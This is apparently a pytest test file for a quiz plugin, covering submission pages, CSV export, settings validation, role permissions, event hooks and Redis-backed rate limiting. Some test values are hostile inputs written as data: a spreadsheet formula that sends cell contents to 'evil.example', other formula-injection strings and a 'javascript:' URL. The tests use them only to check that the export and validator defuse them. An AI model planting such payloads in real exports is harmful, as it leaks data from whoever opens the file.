"""Submissions and CSV export, the Quiz pages settings, the dashboard widget, event hooks,
rate-limit storage and the demo data."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import uuid

import pytest
from pluggy import PluginManager
from quizkit import good_answers, make_quiz, public_path, submit
from sqlalchemy import select

from orbitflow import hookimpl
from orbitflow.audit.models import AuditEntry
from orbitflow.ratelimit import RateLimiter
from orbitflow.shared import shared
from orbitflow.tenants.models import Company
from orbitflow_plugins.quiz.demo import create_demo_quizzes
from orbitflow_plugins.quiz.models import Quiz, QuizSubmission
from orbitflow_plugins.quiz.ratelimit import parse_limits
from support import csrf_token


def visitor(testapp, address="10.7.7.7"):
    return testapp.__class__(testapp.app, extra_environ={"HTTP_HOST": "localhost", "REMOTE_ADDR": address})


def test_submissions_page_and_csv_export(testapp, db, company, quiz, manager, login_as):
    path = public_path(company, quiz)
    submit(visitor(testapp), path, good_answers(quiz, name="=HYPERLINK(1)"), status=303, query="?utm_source=fb")
    login_as(manager)
    page = testapp.get(f"/quizzes/{quiz.id}/submissions")
    assert "ada@example.com" in page.text and "Team size?" in page.text and "Small" in page.text
    lead_id = db.scalars(select(QuizSubmission)).one().lead_id
    assert f'href="http://localhost/leads/{lead_id}"' in page.text
    export = testapp.get(f"/quizzes/{quiz.id}/submissions.csv")
    assert export.content_type == "text/csv"
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0][:5] == ["submitted_at", "submission_id", "lead_id", "new_lead", "name"]
    assert rows[0][-5:] == [q.text for q in quiz.questions]
    assert rows[1][4] == "'=HYPERLINK(1)"  # never a formula in a spreadsheet
    assert rows[1][-5:] == ["Small", "TikTok", "example.org", "120", "4"]
    assert "quiz.export" in [e.action for e in db.scalars(select(AuditEntry))]


def test_csv_header_defuses_question_titles_as_formulas(testapp, db, company, manager, login_as):
    spec = {
        "title": "Formulas",
        "slug": "formulas",
        "questions": [
            {"kind": "text", "text": '=HYPERLINK("https://evil.example/?x="&A2,"open")', "required": False},
            {"kind": "text", "text": "@SUM(1+1)", "required": False},
            {"kind": "text", "text": "+1-1", "required": False},
            {"kind": "text", "text": "Plain - title", "required": False},
        ],
        "outcomes": [],
    }
    quiz = make_quiz(db, company, spec)
    contact = [("name", "Ada"), ("email", "ada@example.com"), ("phone", ""), ("consent", "1")]
    submit(visitor(testapp), public_path(company, quiz), contact, status=303)
    login_as(manager)
    rows = list(csv.reader(io.StringIO(testapp.get(f"/quizzes/{quiz.id}/submissions.csv").text)))
    hyperlink = '\'=HYPERLINK("https://evil.example/?x="&A2,"open")'
    assert rows[0][-4:] == [hyperlink, "'@SUM(1+1)", "'+1-1", "Plain - title"]
    assert rows[0][:2] == ["submitted_at", "submission_id"]
    assert len(rows) == 2


@pytest.mark.parametrize("role", ["AGENT"])
def test_agents_see_no_submissions(testapp, company, quiz, make_user, login_as, role):
    login_as(make_user(company, role))
    testapp.get(f"/quizzes/{quiz.id}/submissions", status=403)
    testapp.get(f"/quizzes/{quiz.id}/submissions.csv", status=403)


@pytest.mark.parametrize(
    ("value", "stored", "error"),
    [
        (
            "https://www.example.com\nhttps://*.example.org:8443",
            "https://www.example.com https://*.example.org:8443",
            None,
        ),
        ("'self' http://localhost:3000", "'self' http://localhost:3000", None),
        ("", None, None),
        ("http://insecure.example", None, "use https://"),
        ("https://example.com/path", None, "origin only"),
        ("javascript:alert(1)", None, "origin only"),
        ("https://exa mple.com", None, None),
        ("https://bad_host!.com", None, "not a valid host name"),
    ],
)
def test_frame_ancestors_setting_is_validated(testapp, db, company, make_user, login_as, value, stored, error):
    login_as(make_user(company, "ADMIN"))
    form = {"csrf_token": csrf_token(testapp), "frame_ancestors": value, "privacy_policy_url": ""}
    response = testapp.post("/settings/quiz-pages", form, expect_errors=True)
    db.expire_all()
    saved = db.get(Company, company.id).frame_ancestors
    if error:
        assert response.status_int == 400 and error in response.text
        assert saved is None
    elif value == "https://exa mple.com":
        # Spaces separate origins: "https://exa" and "mple.com" — the second is refused.
        assert response.status_int == 400
    else:
        assert response.status_int == 303
        assert saved == stored


def test_privacy_policy_address_is_saved_and_audited(testapp, db, company, make_user, login_as):
    login_as(make_user(company, "OWNER"))
    token = csrf_token(testapp)
    bad = testapp.post("/settings/quiz-pages", {"csrf_token": token, "privacy_policy_url": "ftp://x"}, status=400)
    assert "http:// or https://" in bad.text
    testapp.post(
        "/settings/quiz-pages", {"csrf_token": token, "privacy_policy_url": "https://acme.example/p"}, status=303
    )
    db.expire_all()
    assert db.get(Company, company.id).privacy_policy_url == "https://acme.example/p"
    entry = db.scalars(select(AuditEntry).where(AuditEntry.action == "company.update")).one()
    assert entry.changes["privacy_policy_url"]["to"] == "https://acme.example/p"
    page = testapp.get("/dashboard")
    assert "Quiz pages" in page.text  # the settings menu entry
    again = testapp.post(
        "/settings/quiz-pages", {"csrf_token": token, "privacy_policy_url": "https://acme.example/p"}, status=303
    )
    assert "Nothing changed." in again.follow().text
    assert len(db.scalars(select(AuditEntry).where(AuditEntry.action == "company.update")).all()) == 1


@pytest.mark.parametrize("role", ["MANAGER", "AGENT", "VIEWER"])
def test_managers_cannot_change_company_settings(testapp, db, company, make_user, login_as, unchanged, role):
    login_as(make_user(company, role))
    form = {
        "csrf_token": csrf_token(testapp),
        "frame_ancestors": "https://partner.example",
        "privacy_policy_url": "https://evil.example/p",
    }
    with unchanged():
        testapp.get("/settings/quiz-pages", status=403)
        testapp.post("/settings/quiz-pages", form, status=403)
    db.expire_all()
    kept = db.get(Company, company.id)
    assert (kept.frame_ancestors, kept.privacy_policy_url) == (None, None)


def test_dashboard_widget_and_navigation(testapp, company, quiz, manager, login_as):
    submit(visitor(testapp), public_path(company, quiz), good_answers(quiz), status=303)
    login_as(manager)
    page = testapp.get("/dashboard")
    assert "quiz completion in 30 days" in page.text and "quiz completions" not in page.text
    assert "1 published quiz" in page.text
    assert 'href="http://localhost/quizzes"' in page.text


class Listener:
    def __init__(self):
        self.calls: list[tuple[str, object]] = []

    @hookimpl
    def quiz_viewed(self, event):
        self.calls.append(("quiz_viewed", event))

    @hookimpl
    def quiz_started(self, event):
        self.calls.append(("quiz_started", event))

    @hookimpl
    def quiz_submitted(self, event):
        self.calls.append(("quiz_submitted", event))

    @hookimpl
    def lead_created(self, event):
        self.calls.append(("lead_created", event))


def test_event_hooks_are_called_after_commit(testapp, wsgi_app, db, company, quiz):
    listener = Listener()
    pm = shared(wsgi_app.registry, PluginManager)
    pm.register(listener, name="quiz-test-listener")
    try:
        path = public_path(company, quiz)
        submit(visitor(testapp), path, good_answers(quiz), status=303, query="?utm_source=fb")
        # A refused submission announces nothing.
        submit(visitor(testapp), path, [*good_answers(quiz), ("leave_blank", "x")], status=400)
    finally:
        pm.unregister(name="quiz-test-listener")
    names = [name for name, _ in listener.calls]
    assert names == ["quiz_viewed", "quiz_started", "lead_created", "quiz_submitted", "quiz_viewed"]
    submitted = listener.calls[3][1]
    row = db.scalars(select(QuizSubmission)).one()
    assert (submitted.quiz_id, submitted.submission_id, submitted.lead_id) == (quiz.id, row.id, row.lead_id)
    assert submitted.utm == {"utm_source": "fb"} and submitted.data["outcome"] == "Growth"


# A process that counts quiz submissions in the given store: each line it reads is one
# submission from the same visitor; it answers with the limiter's verdict.
LIMITED_PROCESS = """
import json, sys
from orbitflow.ratelimit import RateLimiter
from orbitflow_plugins.quiz.ratelimit import QuizRateLimiter, parse_limits

limiter = QuizRateLimiter(RateLimiter(sys.argv[1]), parse_limits({"quiz.ratelimit.submit": "2/minute"}))
for line in sys.stdin:
    verdict = limiter.hit("submit", sys.argv[2])
    print(json.dumps([verdict.allowed, verdict.retry_after]), flush=True)
"""


def test_redis_storage_is_shared_between_processes(redis_url):
    visitor = uuid.uuid4().hex  # the visitor's key, new for each run
    processes = [
        subprocess.Popen(
            [sys.executable, "-c", LIMITED_PROCESS, redis_url, visitor],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]

    def submit_through(process) -> tuple[bool, int]:
        process.stdin.write("submit\n")
        process.stdin.flush()
        allowed, retry_after = json.loads(process.stdout.readline())
        return allowed, retry_after

    one, two = processes
    try:
        # 2 a minute: one submission in each process uses the visitor's allowance up.
        assert submit_through(one)[0] and submit_through(two)[0]
        for process in (one, two):
            allowed, retry_after = submit_through(process)
            assert not allowed and retry_after >= 1
    finally:
        for process in processes:
            process.stdin.close()
            process.wait(timeout=30)


def test_unusable_storage_and_bad_limits_stop_start_up():
    from orbitflow.config import ConfigError

    with pytest.raises(ConfigError, match=r"quiz\.ratelimit\.view must look like"):
        parse_limits({"quiz.ratelimit.view": "lots"})
    with pytest.raises(ConfigError, match=r"orbitflow\.ratelimit_storage"):
        RateLimiter("nosuch://x")


def test_demo_data_has_two_published_quizzes_with_submissions(db, make_company):
    demo = make_company(name="Demo", subscription_id="demo-quiz")
    lines = create_demo_quizzes(db, demo)
    db.commit()
    quizzes = db.scalars(select(Quiz).where(Quiz.company_id == demo.id)).all()
    assert len(quizzes) == 2 and all(q.status == "published" for q in quizzes)
    counts = [len(db.scalars(select(QuizSubmission).where(QuizSubmission.quiz_id == q.id)).all()) for q in quizzes]
    assert counts == [12, 8]
    assert len(lines) == 2 and "/q/demo-quiz/find-your-plan" in lines[0]
